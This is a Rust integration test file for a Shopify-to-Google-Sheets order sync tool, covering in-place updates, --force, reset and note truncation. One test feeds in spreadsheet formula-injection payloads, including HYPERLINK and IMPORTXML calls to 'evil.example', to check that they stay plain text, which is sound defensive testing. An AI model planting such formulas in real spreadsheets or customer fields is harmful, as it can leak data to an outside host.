//! Promise 2 (current) and 5 (values stay values) end to end: orders paid, fulfilled, cancelled,
//! refunded, edited and added are updated in place; `--force` and `reset` rewrite in place; formula-looking
//! text stays text; an over-long note is truncated with a warning.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::world::World;

type Key = (String, String);
type Rows = BTreeMap<Key, (u32, Vec<Value>)>;

/// Asserts every row of `before` not in `changed` orders is byte-for-byte where it was.
fn assert_untouched(before: &Rows, after: &Rows, changed: &[u64]) {
    for (key, (row, cells)) in before {
        let (row_after, cells_after) = after
            .get(key)
            .unwrap_or_else(|| panic!("row of {key:?} is gone"));
        assert_eq!(row, row_after, "{key:?} moved");
        if !changed.iter().any(|id| id.to_string() == key.0) {
            assert_eq!(
                cells, cells_after,
                "{key:?} changed though its order did not"
            );
        }
    }
}

fn number(value: &Value) -> f64 {
    value
        .as_f64()
        .unwrap_or_else(|| panic!("{value:?} is not a number"))
}

#[test]
fn changed_orders_are_updated_in_place_and_new_line_items_appended() {
    let world = World::fast(11, 40);
    let ids = world.order_ids();
    let (paid, cancelled, refunded, edited, grown, fulfilled) =
        (ids[3], ids[7], ids[11], ids[15], ids[19], ids[23]);
    // Most generated orders are already PAID and half are FULFILLED: start these two where the
    // change must show in the sheet.
    world.shopify.with_store(|s, now| {
        s.update(paid, now.timestamp(), |o| {
            o.financial_status = Some("PENDING");
        });
        s.update(fulfilled, now.timestamp(), |o| {
            o.fulfillment_status = "UNFULFILLED";
        });
    });
    world.sync_ok(&[]);
    world.assert_exactly_once();
    for key in world.keys_of(paid) {
        assert_eq!(world.cell(&key, "Financial Status"), "PENDING");
    }
    for key in world.keys_of(fulfilled) {
        assert_eq!(world.cell(&key, "Fulfillment Status"), "UNFULFILLED");
    }
    let before = world.rows_by_key();

    world.shopify.with_store(|s, now| {
        s.update(paid, now.timestamp(), |o| o.financial_status = Some("PAID"));
        s.update(fulfilled, now.timestamp(), |o| {
            o.fulfillment_status = "FULFILLED";
        });
    });
    assert!(world.shopify.cancel(cancelled));
    let total_before = number(&world.cell(&world.keys_of(refunded)[0], "Order Total"));
    assert!(world.shopify.refund(refunded, 500));
    let edited_keys = world.keys_of(edited);
    assert!(world.shopify.edit_lines(edited, 0));
    let grown_keys = world.keys_of(grown);
    world.shopify.with_store(|s, now| {
        let template = s.get(grown).expect("order").lines[0].clone();
        let line = s.new_line_like(&template);
        s.update(grown, now.timestamp(), |o| o.lines.push(line))
    });
    let added = world.shopify.add_orders(2);

    let stdout = world.sync_ok(&[]);
    assert!(stdout.contains(" 0 failed"), "{stdout}");
    world.assert_exactly_once();
    let after = world.rows_by_key();
    assert_untouched(
        &before,
        &after,
        &[paid, cancelled, refunded, edited, grown, fulfilled],
    );

    for key in world.keys_of(paid) {
        assert_eq!(world.cell(&key, "Financial Status"), "PAID");
    }
    for key in world.keys_of(fulfilled) {
        assert_eq!(world.cell(&key, "Fulfillment Status"), "FULFILLED");
    }
    for key in world.keys_of(cancelled) {
        assert_eq!(world.cell(&key, "Financial Status"), "VOIDED");
        assert_ne!(world.cell(&key, "Cancelled At"), "", "{key:?}");
        assert_eq!(number(&world.cell(&key, "Order Total")), 0.0);
    }
    let key = &world.keys_of(refunded)[0];
    let total_after = number(&world.cell(key, "Order Total"));
    assert!(
        (total_before - total_after - 5.0).abs() < 1e-9,
        "{total_before} -> {total_after}"
    );
    // The removed line item keeps its row, with quantity 0; its copy is a new row at the end.
    assert_eq!(number(&world.cell(&edited_keys[0], "Quantity")), 0.0);
    let edited_now = world.keys_of(edited);
    assert_eq!(edited_now.len(), edited_keys.len() + 1);
    let new_line = edited_now.last().expect("new line");
    assert!(number(&world.cell(new_line, "Quantity")) > 0.0);
    let last_old_row = before.values().map(|(r, _)| *r).max().expect("rows");
    assert!(
        after[new_line].0 > last_old_row,
        "the new line item was not appended"
    );
    // An added line item is appended; the order's other rows stay where they were.
    let grown_now = world.keys_of(grown);
    assert_eq!(grown_now.len(), grown_keys.len() + 1);
    for key in &grown_keys {
        assert_eq!(before[key].0, after[key].0);
    }
    assert!(after[grown_now.last().expect("line")].0 > last_old_row);
    for id in added {
        for key in world.keys_of(id) {
            assert_eq!(world.cell(&key, "Order"), world.order_name(id).as_str());
            assert!(after[&key].0 > last_old_row);
        }
    }
}

#[test]
fn force_puts_back_owned_cells_a_person_edited_and_leaves_their_column_alone() {
    let world = World::fast(12, 15);
    world.sync_ok(&[]);
    let key = world.keys_of(world.order_ids()[2])[0].clone();
    let row = world.rows_by_key()[&key].0;
    let product_col = u32::try_from(world.col("Product")).expect("col");
    let product = world.cell(&key, "Product");
    // A person adds a column of their own at the far right and edits an owned cell.
    let width = u32::try_from(world.rows()[0].len()).expect("width");
    let sheet = &world.spreadsheet;
    world
        .google
        .person_add_column(sheet, crate::world::TAB, width, "Checked by");
    world
        .google
        .person_edit_cell(sheet, crate::world::TAB, row, width, &json!("Ann"));
    world
        .google
        .person_edit_cell(sheet, crate::world::TAB, row, product_col, &json!("typo"));

    // A normal run trusts its hashes: the person's edit lasts until the order changes.
    world.sync_ok(&[]);
    assert_eq!(world.cell(&key, "Product"), "typo");

    // The window of an hourly run is empty; --since widens it to every order.
    let since = (chrono::Utc::now() - chrono::Duration::days(60))
        .format("%Y-%m-%d")
        .to_string();
    let before = world.rows_by_key();
    world.sync_ok(&["--force", "--since", &since]);
    world.assert_exactly_once();
    let after = world.rows_by_key();
    assert_eq!(world.cell(&key, "Product"), product);
    assert_eq!(world.cell(&key, "Checked by"), "Ann");
    for (k, (r, cells)) in &before {
        assert_eq!(after[k].0, *r, "{k:?} moved");
        if k != &key {
            assert_eq!(&after[k].1, cells, "{k:?} rewritten with a different value");
        }
    }
}

#[test]
fn reset_then_sync_rewrites_the_orders_rows_in_place() {
    let world = World::fast(13, 15);
    world.sync_ok(&[]);
    let id = world.order_ids()[4];
    let keys = world.keys_of(id);
    let before = world.rows_by_key();
    let sku = u32::try_from(world.col("SKU")).expect("col");
    for key in &keys {
        world.google.person_edit_cell(
            &world.spreadsheet,
            crate::world::TAB,
            before[key].0,
            sku,
            &json!("smudged"),
        );
    }
    let name = world.order_name(id);
    world.cmd(&["reset", &name]).assert().success();
    world.sync_ok(&[]);
    world.assert_exactly_once();
    let after = world.rows_by_key();
    assert_eq!(
        before, after,
        "the reset order's rows were not rewritten in place"
    );
}

#[test]
fn formula_looking_customer_text_stays_text() {
    let world = World::fast(14, 10);
    let id = world.order_ids()[1];
    world.shopify.with_store(|s, now| {
        // A customer of its own whose first name looks like a formula.
        let mut customer = s.data.customers[0].clone();
        customer.first_name = Some("=HYPERLINK(\"http://evil.example\",\"x\")".into());
        customer.last_name = Some("@SUM(A1)".into());
        s.data.customers.push(customer);
        let index = u32::try_from(s.data.customers.len() - 1).expect("index");
        s.update(id, now.timestamp(), |o| {
            o.customer = Some(index);
            o.note = Some("=IMPORTXML(\"http://evil.example\",\"//a\")".into());
            o.tags = vec!["+1+1".into()];
        })
    });
    world.sync_ok(&[]);
    world.assert_exactly_once();
    assert!(
        world
            .google
            .formulas(&world.spreadsheet, crate::world::TAB)
            .is_empty(),
        "a formula reached the sheet"
    );
    let key = &world.keys_of(id)[0];
    let note = world.cell(key, "Note");
    assert_eq!(note, "=IMPORTXML(\"http://evil.example\",\"//a\")");
    assert_eq!(world.cell(key, "Tags"), "+1+1");
    let customer = world.cell(key, "Customer");
    assert!(
        customer
            .as_str()
            .is_some_and(|c| c.starts_with("=HYPERLINK(")),
        "{customer:?}"
    );
}

#[test]
fn a_60000_character_note_is_truncated_with_a_warning_and_exit_0() {
    let world = World::fast(15, 8);
    let id = world.order_ids()[0];
    let note = "n".repeat(60_000);
    world.shopify.with_store(|s, now| {
        s.update(id, now.timestamp(), |o| o.note = Some(note.as_str().into()))
    });
    let stdout = world.sync_ok(&["--json"]);
    let summary: Value = serde_json::from_str(&stdout).expect("--json prints one object");
    let warnings = summary["warnings"].to_string();
    assert!(
        warnings.contains(&world.order_name(id)) && warnings.contains("truncated"),
        "{warnings}"
    );
    world.assert_exactly_once();
    let cell = world.cell(&world.keys_of(id)[0], "Note");
    let text = cell.as_str().expect("text");
    assert!(text.encode_utf16().count() <= 50_000, "{}", text.len());
    assert!(text.starts_with("nnnn"));
    assert!(!text.ends_with('n'), "no visible truncation marker");
    let log = std::fs::read_to_string(world.dir.file("shopify_sync.log")).expect("log");
    assert!(
        log.contains("truncated"),
        "the log does not mention the truncation"
    );
}
